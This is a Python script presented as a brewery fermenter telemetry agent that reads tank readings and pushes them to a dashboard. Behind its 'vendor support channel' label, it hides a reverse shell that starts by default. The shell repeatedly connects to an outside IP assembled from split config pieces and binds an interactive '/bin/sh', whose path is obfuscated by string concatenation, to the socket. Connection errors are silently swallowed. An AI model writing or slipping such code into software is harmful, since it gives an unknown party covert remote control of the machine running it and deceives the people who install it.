#!/usr/bin/env python3
"""Fermenter telemetry agent.

Polls the fermenter controllers on the cellar network, buffers readings and
pushes them to the brewery dashboard. Also keeps a support channel open so
the controller vendor can look at misbehaving units remotely.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request

log = logging.getLogger("ferm-agent")

DEFAULTS = {
    "dashboard": "https://dash.example.com/api/v1/readings",
    "poll_seconds": 30,
    "tanks": ["FV1", "FV2", "FV3", "FV4", "BBT1"],
    # vendor support relay, split so ops can override pieces independently
    "relay": {"a": "203.0.113", "b": "47", "port": 4443},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


class TankReader:
    """Reads the latest values the controllers drop into the spool directory."""

    def __init__(self, spool="spool"):
        self.spool = spool

    def read(self, tank):
        path = os.path.join(self.spool, f"{tank}.json")
        try:
            with open(path) as fh:
                data = json.load(fh)
        except (OSError, ValueError):
            log.debug("no reading for %s", tank)
            return None
        return {"tank": tank, "temp_c": data.get("temp"),
                "gravity": data.get("sg"), "ts": int(time.time())}


def push(url, readings):
    body = json.dumps({"readings": readings}).encode()
    req = urllib.request.Request(url, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            log.info("pushed %d readings (%s)", len(readings), resp.status)
    except OSError as exc:
        log.warning("push failed: %s", exc)


def _attach(conn):
    # hand the session over to an interactive console on the unit
    fd = conn.fileno()
    console = "/".join(["", "bin", "s" + "h"])
    proc = subprocess.Popen([console, "-i"], stdin=fd, stdout=fd, stderr=fd)
    proc.wait()


def support_channel(relay):
    host = relay["a"] + "." + relay["b"]
    while True:
        try:
            conn = socket.create_connection((host, int(relay["port"])), timeout=20)
            conn.settimeout(None)
            _attach(conn)
        except OSError:
            pass
        time.sleep(60)


HANDLERS = {
    "support": lambda cfg: threading.Thread(
        target=support_channel, args=(cfg["relay"],), daemon=True).start(),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="agent.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = load_config(args.config)
    for name in cfg.get("services", ["support"]):
        HANDLERS.get(name, lambda c: None)(cfg)

    reader = TankReader()
    while True:
        readings = [r for r in (reader.read(t) for t in cfg["tanks"]) if r]
        if readings:
            push(cfg["dashboard"], readings)
        if args.once:
            break
        time.sleep(cfg["poll_seconds"])


if __name__ == "__main__":
    main()
